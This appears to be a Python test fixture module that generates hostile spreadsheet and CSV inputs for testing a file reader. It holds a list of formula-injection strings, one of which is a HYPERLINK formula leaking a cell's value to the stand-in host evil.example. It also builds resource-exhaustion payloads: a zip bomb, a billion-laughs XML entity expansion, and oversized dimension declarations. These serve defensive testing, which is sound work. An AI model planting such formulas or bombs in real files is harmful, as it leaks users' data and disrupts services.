"""Hostile spreadsheets, built in the test: small files that ask a reader for a lot of work."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

from openpyxl import Workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&K2,"Click")', "+1", "-1+2", "@SUM(1)",
           "\t=1", "\r=1"]


def workbook(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_sheet_xml(xlsx: bytes, sheet_xml: bytes | Iterator[bytes]) -> bytes:
    """The workbook with its first sheet's XML replaced (streamed into the zip)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with target.open(item.filename, "w") as part:
                    for chunk in ([sheet_xml] if isinstance(sheet_xml, bytes) else sheet_xml):
                        part.write(chunk)
            else:
                target.writestr(item, source.read(item.filename))
    return out.getvalue()


HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def _text_cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def dimension_bomb(header: list[str]) -> bytes:
    """A few KB that declare A1:XFD1048576 and hold one cell in the sheet's very last row."""
    cells = b"".join(_text_cell(f"{chr(65 + i)}1", h) for i, h in enumerate(header))
    xml = (HEAD + b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">' + cells
           + b'</row><row r="1048576">' + _text_cell("XFD1048576", "x")
           + b"</row></sheetData></worksheet>")
    return with_sheet_xml(workbook([header]), xml)


def many_rows(header: list[str], rows: int, *, declare_rows: int | None = None) -> bytes:
    """``rows`` data rows under the header, streamed into the zip. Without ``declare_rows``
    the sheet has no <dimension>: the reader learns its size only by reading."""
    width = len(header)

    def xml() -> Iterator[bytes]:
        last = f"{chr(64 + width)}{(declare_rows or 0) + 1}"
        yield HEAD + (f'<dimension ref="A1:{last}"/>'.encode() if declare_rows else b"")
        yield b'<sheetData><row r="1">' + b"".join(
            _text_cell(f"{chr(65 + i)}1", h) for i, h in enumerate(header)) + b"</row>"
        batch = []
        for n in range(2, rows + 2):
            batch.append(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>NB</t></is></c>'
                         f'<c r="B{n}" t="inlineStr"><is><t>SKU-{n}</t></is></c>'
                         f'<c r="C{n}"><v>1</v></c></row>')
            if len(batch) == 10_000:
                yield "".join(batch).encode()
                batch = []
        yield "".join(batch).encode() + b"</sheetData></worksheet>"

    return with_sheet_xml(workbook([header]), xml())


def broken_xml(header: list[str]) -> bytes:
    good = workbook([header, ["a", "b"]])
    sheet = zipfile.ZipFile(io.BytesIO(good)).read("xl/worksheets/sheet1.xml")
    return with_sheet_xml(good, re.sub(rb"</sheetData>.*", b"<row r=", sheet, flags=re.S))


def zip_bomb(size: int = 20 * 1024 * 1024) -> bytes:
    """A valid workbook carrying one more part of ``size`` zero bytes (a few hundred KB packed)."""
    out = io.BytesIO(workbook([["仓库", "SKU", "在库"]]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target:
        with target.open("xl/media/zeros.bin", "w", force_zip64=True) as part:
            chunk = bytes(1024 * 1024)
            for _ in range(size // len(chunk)):
                part.write(chunk)
    return out.getvalue()


def many_parts(count: int = 1500) -> bytes:
    out = io.BytesIO(workbook([["仓库", "SKU", "在库"]]))
    with zipfile.ZipFile(out, "a") as target:
        for i in range(count):
            target.writestr(f"xl/media/p{i}.txt", b"")
    return out.getvalue()


def csv_with_long_field(size: int = 200 * 1024) -> bytes:
    return ("仓库,SKU,在库\nNB,MILK-900,1\nNB," + "x" * size + ",2\n").encode("utf-8")


def billion_laughs() -> bytes:
    """Nested XML entities that would expand to 10^10 characters."""
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
    xml = (b'<?xml version="1.0"?><!DOCTYPE worksheet [' + entities.encode() + b"]>"
           + HEAD.split(b"?>", 1)[1] + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is>'
           b"<t>&j;</t></is></c></row></sheetData></worksheet>")
    return with_sheet_xml(workbook([["a"]]), xml)
